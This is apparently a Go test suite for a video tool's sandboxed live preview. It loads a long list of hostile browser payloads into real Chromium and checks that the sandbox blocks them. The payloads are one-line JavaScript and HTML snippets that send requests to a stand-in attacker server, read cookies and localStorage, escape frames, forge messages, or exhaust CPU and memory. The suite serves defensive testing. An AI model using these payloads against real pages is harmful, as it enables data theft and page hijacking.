package live_test

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/koda-video/koda/internal/browser/browsertest"
	"github.com/koda-video/koda/internal/koda"
	"github.com/koda-video/koda/internal/live"
	"github.com/koda-video/koda/internal/needs"
)

// attack is what a page does that somebody wrote to do harm.
type attack struct {
	name, code, html string
	// walled: without the walls it does no harm that this suite can see, or the browser
	// itself stops it.
	walled bool
}

// preamble is what all attacks have: E is an address of a server that must see nothing, W
// that for websockets, H its host. raw is a window in which koda's clock never ran.
const preamble = `const H = '{host}', E = 'http://' + H + '/{name}', W = 'ws://' + H + '/{name}', OUTER = '{outer}', OTHER = '{other}'
const add = (tag, as = {}) => { const e = Object.assign(document.createElement(tag), as); document.body.append(e); return e }
const raw = add('iframe').contentWindow
const say = parent.postMessage.bind(parent)
const stolen = (x) => say({type: 'warning', text: 'STOLEN ' + x}, '*')
const wait = (ms) => new Promise((r) => raw.setTimeout(r, ms))
const blob = (code, type = 'text/javascript') => URL.createObjectURL(new Blob([code], {type}))
const css = (text) => add('style', {textContent: text})
`

var attacks = []attack{
	{name: "fetch", code: `fetch(E, {mode: 'no-cors'})`},
	{name: "fetch-fresh", code: `raw.fetch(E, {mode: 'no-cors'})`},
	{name: "fetch-post", code: `fetch(E, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})`},
	{name: "fetch-later", code: `fetchLater(E, {activateAfter: 0})`, walled: true},
	{name: "xhr", code: `const x = new XMLHttpRequest(); x.open('GET', E); x.send()`},
	{name: "xhr-sync", code: `const x = new raw.XMLHttpRequest(); x.open('GET', E, false); x.send()`},
	{name: "websocket", code: `new WebSocket(W)`},
	{name: "eventsource", code: `new EventSource(E)`},
	{name: "beacon", code: `navigator.sendBeacon(E, 'x')`},
	{name: "webtransport", code: `await new WebTransport('https://' + H + '/{name}').ready`, walled: true},
	{name: "img", code: `add('img', {src: E})`},
	{name: "img-fresh", code: `new raw.Image().src = E`},
	{name: "picture-input", code: `add('input', {type: 'image', src: E})`},
	{name: "css-background", code: `css('body { background: url(' + E + ') }')`},
	{name: "css-import", code: `css('@import url(' + E + ');')`},
	{name: "css-image-set", code: `css('body { background: image-set("' + E + '" 1x); cursor: url(' + E + '), auto }')`},
	{name: "css-font", code: `css('@font-face { font-family: x; src: url(' + E + ') } body { font-family: x }'); add('p', {textContent: 'x'})`},
	{name: "font-face", code: `await new FontFace('x', 'url(' + E + ')').load()`},
	{name: "stylesheet", code: `add('link', {rel: 'stylesheet', href: E})`},
	{name: "script", code: `add('script', {src: E})`},
	{name: "import", code: `await import(E)`},
	{name: "iframe", code: `add('iframe', {src: E})`},
	{name: "iframe-srcdoc", code: `add('iframe', {srcdoc: '<img src=' + E + '>'})`},
	{name: "iframe-data", code: `add('iframe', {src: 'data:text/html,<img src=' + E + '>'})`},
	{name: "iframe-blob", code: `add('iframe', {src: blob('<img src=' + E + '>', 'text/html')})`},
	{name: "iframe-blank", code: `raw.document.write('<img src=' + E + '>')`},
	{name: "object", code: `add('object', {data: E})`},
	{name: "embed", code: `add('embed', {src: E})`},
	{name: "video", code: `const v = raw.document.createElement('video'); v.src = E; v.preload = 'auto'; raw.document.documentElement.append(v); v.load()`},
	{name: "audio", code: `new raw.Audio(E).load()`},
	{name: "track", code: `const v = add('video'); v.append(Object.assign(document.createElement('track'), {src: E, default: true}))`, walled: true},
	{name: "svg-image", html: `<svg><image href="http://{host}/{name}"/></svg>`},
	{name: "svg-filter", html: `<svg><filter id="f"><feImage href="http://{host}/{name}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`},
	{name: "base", html: `<base href="http://{host}/"><img src="{name}">`},
	{name: "worker", code: `new Worker(blob('fetch("' + E + '", {mode: "no-cors"})'))`},
	{name: "worker-import", code: `new Worker(blob('importScripts("' + E + '")'))`},
	{name: "worker-socket", code: `new Worker(blob('new WebSocket("' + W + '")'))`},
	{name: "shared-worker", code: `new SharedWorker(blob('fetch("' + E + '", {mode: "no-cors"})'))`},
	{name: "worklet", code: `await CSS.paintWorklet.addModule(E)`, walled: true},
	{name: "service-worker", code: `const r = await raw.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/sw.js'); stolen('a service worker at ' + r.scope)`},
	{name: "form", code: `const f = add('form', {action: E}); f.submit()`},
	{name: "form-post", code: `const f = add('form', {action: E, method: 'post', target: '_blank'}); f.submit()`},
	{name: "form-top", code: `const f = add('form', {action: E, target: '_top'}); f.submit()`},
	{name: "open", code: `raw.open(E)`},
	{name: "open-blob", code: `raw.open(blob('<img src=' + E + '>', 'text/html'))`, walled: true},
	{name: "link-blank", code: `add('a', {href: E, target: '_blank', rel: 'opener'}).click()`},
	{name: "link-download", code: `add('a', {href: E, download: 'x'}).click()`},
	{name: "link-ping", code: `add('a', {href: '#x', ping: E}).click()`},
	{name: "referrer", code: `if (document.referrer.includes('token')) stolen(document.referrer)`, walled: true},
	{name: "location", code: `location.href = E`},
	{name: "location-top", code: `top.location.href = E`},
	{name: "location-parent", code: `parent.location.replace(E)`},
	{name: "location-script", code: `parent.location = 'javascript:fetch("' + E + '")'`},
	{name: "meta-refresh", html: `<meta http-equiv="refresh" content="0;url=http://{host}/{name}">`},
	{name: "prefetch", html: `<link rel="prefetch" href="http://{host}/{name}">`},
	{name: "preload", html: `<link rel="preload" as="image" href="http://{host}/{name}">`},
	{name: "modulepreload", html: `<link rel="modulepreload" href="http://{host}/{name}">`},
	{name: "preconnect", html: `<link rel="preconnect" href="http://{host}">`, walled: true},
	{name: "dns-prefetch", html: `<link rel="dns-prefetch" href="http://{host}">`, walled: true},
	{name: "speculation", code: `add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [E]}], prerender: [{source: 'list', urls: [E]}]})})`, walled: true},
	{name: "manifest", html: `<link rel="manifest" href="http://{host}/{name}">`, walled: true},
	{name: "icon", html: `<link rel="icon" href="http://{host}/{name}">`, walled: true},
	{name: "csp-report", html: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri http://{host}/{name}"><img src="/x">`, walled: true},
	{name: "webrtc", code: `const c = new (raw.RTCPeerConnection ?? RTCPeerConnection)({iceServers: [{urls: 'stun:' + H}]}); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await wait(600)`},
	{name: "read-parent", code: `stolen(parent.document.title + parent.document.cookie)`},
	{name: "write-parent", code: `parent.document.title = 'owned'; stolen('title')`},
	{name: "eval-parent", code: `parent.eval('fetch("' + E + '")')`},
	{name: "cookie", code: `if (document.cookie.includes('victim')) stolen(document.cookie)`},
	{name: "cookie-domain", code: `document.cookie = 'planted=1; domain=localhost; path=/'; document.cookie = 'planted=1; domain=127.0.0.1; path=/'`, walled: true},
	{name: "storage", code: `if (localStorage.getItem('victim')) stolen(localStorage.getItem('victim'))`},
	{name: "broadcast", code: `const b = new BroadcastChannel('victim'); b.onmessage = (e) => stolen(e.data); b.postMessage('?'); await wait(200)`, walled: true},
	{name: "name", code: `stolen(parent.name + parent.opener.location)`, walled: true},
	{name: "outer-form", code: `await fetch(OUTER + '/_koda/view/form', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"bounces":"9"}'})`, walled: true},
	{name: "outer-form-cors", code: `await fetch(OUTER + '/_koda/view/form', {method: 'POST', headers: {'Content-Type': 'application/json', 'X-Koda-View': 'mine'}, body: '{"bounces":"9"}'})`, walled: true},
	{name: "outer-form-own", code: `await fetch('/_koda/view/form', {method: 'POST', headers: {'X-Koda-View': 'mine'}, body: '{"bounces":"9"}'})`, walled: true},
	{name: "outer-form-frame", code: `const f = add('form', {action: OUTER + '/_koda/view/form', method: 'post', enctype: 'text/plain'}); f.append(Object.assign(document.createElement('input'), {name: '{"bounces":"9"', value: '}'})); f.submit()`, walled: true},
	{name: "outer-frame", code: `add('iframe', {src: OUTER}).onload = (e) => stolen(e.target.contentDocument.title)`, walled: true},
	{name: "other-preview", code: `stolen(await (await fetch(OTHER)).text())`, walled: true},
	{name: "other-frame", code: `const f = add('iframe', {src: OTHER}); await wait(300); stolen(f.contentDocument.body.textContent)`, walled: true},
	{name: "forge-save", code: `for (const type of ['save', 'form', 'submit', 'set']) say({type, set: {bounces: 9}, bounces: '9'}, '*')`, walled: true},
	{name: "forge-values", code: `for (const v of [NaN, Infinity, -1, 1e300, 'x', {}, [], null, '<img src=' + E + '>']) for (const type of ['shown', 'error', 'warning', 'over', 'ready', '__proto__']) say({type, id: v, frame: v, text: v, file: v, line: v, column: v}, '*'); for (const v of [null, 1, 'x', []]) say(v, '*')`, walled: true},
	{name: "forge-markup", code: `say({type: 'error', text: '<img src=' + E + '><script>fetch("' + E + '")<' + '/script>', file: E, line: 1, column: 1}, '*')`, walled: true},
	{name: "flood", code: `for (let i = 0; i < 50000; i++) say({type: 'warning', text: 'x' + i}, '*')`, walled: true},
	{name: "huge", code: `for (let i = 0; i < 3; i++) say({type: 'error', text: 'x'.repeat(64 << 20)}, '*')`, walled: true},
	{name: "dialogs", code: `for (let i = 0; i < 20; i++) { raw.alert('x'); raw.confirm('x'); raw.print() } onbeforeunload = () => 'stay'`, walled: true},
	{name: "devices", code: `for (const ask of [() => navigator.mediaDevices.getUserMedia({audio: true}), () => navigator.geolocation.getCurrentPosition((p) => stolen('place')), () => navigator.clipboard.readText().then(stolen), () => Notification.requestPermission().then((p) => p === 'granted' && stolen(p)), () => document.body.requestFullscreen().then(() => stolen('screen'))]) { try { await Promise.race([ask(), wait(100)]) } catch {} }`, walled: true},
	{name: "loop", code: `setTimeout(() => {}, 0); raw.setTimeout(() => { for (;;); }, 50)`, walled: true},
	{name: "memory", code: `raw.setTimeout(() => { const all = []; for (let i = 0; i < 40; i++) all.push(new Uint8Array(8 << 20).fill(1)); say(all.length, '*') }, 0)`, walled: true},
}

// page is the page of an attack.
func (a attack) page(host, outer, other string) []byte {
	text := `<!doctype html><html><head><meta charset="utf-8"></head><body><script>{ ` + preamble + ` window.__exportSeekTo = () => {}; window.__exportReady = true; ` +
		`(async () => { ` + a.code + ` })().catch(() => {}) }</script>` + a.html + `</body></html>`
	return []byte(strings.NewReplacer("{host}", host, "{name}", a.name, "{outer}", strings.TrimSuffix(outer, "/"), "{other}", other).Replace(text))
}

// listener is a server that must see nothing: it notes connections, requests and packets.
type listener struct {
	host string
	mu   sync.Mutex
	seen []string
}

func listenFor(t *testing.T) *listener {
	t.Helper()
	l := &listener{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.note(r.Method + " " + r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			l.note("connection")
		}
	}
	srv.Start()
	t.Cleanup(srv.Close)
	l.host = srv.Listener.Addr().String()
	udp, err := net.ListenPacket("udp", l.host)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			l.note("packet")
		}
	}()
	return l
}

func (l *listener) note(what string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.seen = append(l.seen, what)
}

// take returns what came since the last take.
func (l *listener) take() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	seen := l.seen
	l.seen = nil
	return seen
}

// known are the attacks that come through in this browser, as doc.go says; that they do
// is checked too, so that the list stays true.
var known = map[string]string{}

// Each attack runs in the live page of a real browser. Nothing may reach another server,
// nobody else's secret may be read, the page around the picture stays where it is and
// works, and no parameter is saved. Without the walls most attacks do harm: else the suite
// would prove nothing.
func TestHostilePages(t *testing.T) {
	t.Parallel()
	needs.Chromium(t)
	l := listenFor(t)
	p := browsertest.Open(t, 800, 600)
	f := &fields{}
	var mu sync.Mutex
	var body []byte
	now := func(context.Context) (live.Shown, error) {
		mu.Lock()
		defer mu.Unlock()
		return live.Shown{Manifest: pixel, Digest: fmt.Sprint(len(body)), Page: koda.Page{Signals: true, Files: map[string]koda.PageFile{
			"/index.html": {Type: "text/html", Body: body}, "/sw.js": {Type: "text/javascript", Body: []byte("onfetch = () => {}")},
		}}}, nil
	}
	v := open(t, live.Config{Source: live.Source{Now: now, Form: f}})
	other := open(t, live.Config{Source: live.Source{Now: func(context.Context) (live.Shown, error) {
		return live.Shown{Manifest: pixel, Digest: "o", Page: koda.Page{Files: map[string]koda.PageFile{"/index.html": {Type: "text/html", Body: []byte("other's secret")}}}}, nil
	}}})
	neighbour := follow(t, other)().Picture
	bare := bareServer(t, &mu, &body)

	// The person has secrets at other servers of this machine.
	for _, host := range []string{"127.0.0.1", "localhost"} {
		p.Visit(strings.Replace(bare, "127.0.0.1", host, 1) + "/victim")
	}
	outer, _ := at(v)
	harmless, last := 0, ""
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("the last was %s", last)
		}
	})
	plant := func(a attack) {
		mu.Lock()
		defer mu.Unlock()
		last, body = a.name, a.page(l.host, outer, neighbour)
	}
	for _, a := range attacks {
		plant(a)
		p.Visit(v.URL())
		harm := harmOf(t, p, v, l, a)
		if f.set != nil {
			harm = append(harm, fmt.Sprint("saved ", f.set))
			f.set = nil
		}
		switch why, expected := known[a.name]; {
		case len(harm) > 0 && !expected:
			t.Errorf("%s: %q", a.name, harm)
		case len(harm) == 0 && expected:
			t.Errorf("%s does no harm here, although %s", a.name, why)
		case len(harm) > 0:
			t.Logf("%s: comes through: %s", a.name, why)
		default:
			harmless++
		}
		p.Visit("about:blank")
	}
	open := 0
	for _, a := range attacks {
		if a.walled {
			continue
		}
		plant(a)
		p.Visit("about:blank")
		p.Rest(100 * time.Millisecond)
		l.take()
		p.Visit(bare + "/")
		harm := false
		for i := 0; i < 40 && !harm; i++ {
			p.Rest(100 * time.Millisecond)
			harm = len(l.take()) > 0 || p.Tabs() > 1 || browsertest.Maybe[bool](p, "!!window.stolen")
		}
		if open++; !harm {
			t.Errorf("%s does no harm without the walls either", a.name)
		}
		p.CloseOthers()
	}
	t.Logf("%d attacks, %d without any harm, %d known to come through; %d of them do harm without the walls", len(attacks), harmless, len(known), open)
}

// harmOf waits for an attack and says what harm it did.
func harmOf(t *testing.T, p *browsertest.Person, v *live.View, l *listener, a attack) (harm []string) {
	t.Helper()
	switch a.name {
	case "loop":
		p.Until("the page says that the picture does not answer", "document.querySelector('#problemtitle').textContent === 'The page does not answer'")
	default:
		for i := 0; i < 200 && !strings.HasSuffix(browsertest.Maybe[string](p, "document.title"), "a · koda"); i++ {
			p.Rest(30 * time.Millisecond)
		}
		p.Rest(450 * time.Millisecond)
	}
	if n := p.Tabs(); n > 1 {
		harm = append(harm, fmt.Sprintf("%d tabs", n))
		p.CloseOthers()
	}
	at := browsertest.Maybe[string](p, "location.href + ' ' + document.title")
	if !strings.HasPrefix(at, v.URL()) || !strings.HasSuffix(at, "a · koda") {
		harm = append(harm, "the page is at "+at)
		return append(harm, l.take()...)
	}
	// The page still works: a key moves the time.
	before := browsertest.Ask[string](p, "document.querySelector('#time').value")
	p.Press("\u0303")
	if after := browsertest.Ask[string](p, "document.querySelector('#time').value"); after == before {
		harm = append(harm, "the page does not work: "+after)
	}
	if notes := browsertest.Ask[string](p, "document.querySelector('#notes').textContent + document.querySelector('#problemtext').textContent"); strings.Contains(notes, "STOLEN") {
		harm = append(harm, notes)
	}
	if n := browsertest.Ask[int](p, "document.querySelectorAll('#notes img, #problem img, script:not([src])').length"); n > 0 {
		harm = append(harm, "markup in the page")
	}
	if cookie := browsertest.Ask[string](p, "document.cookie"); strings.Contains(cookie, "planted") {
		harm = append(harm, "a cookie: "+cookie)
	}
	return append(harm, l.take()...)
}

// bareServer serves the attack of the moment without walls, within a page of the same
// origin, and gives the person secrets.
func bareServer(t *testing.T, mu *sync.Mutex, body *[]byte) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Cache-Control", "no-store")
		switch r.URL.Path {
		case "/victim":
			fmt.Fprint(w, `<script>document.cookie = 'victim=secret; path=/'; localStorage.setItem('victim', 'secret')</script>`)
		case "/":
			fmt.Fprint(w, `<title>bare</title><script>window.name = 'n'; onmessage = (e) => { if (String(e.data?.text).startsWith('STOLEN')) window.stolen = true }</script><iframe src="/attack"></iframe>`)
		case "/attack":
			mu.Lock()
			defer mu.Unlock()
			_, _ = w.Write(bytes.Clone(*body))
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, "onfetch = () => {}")
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}
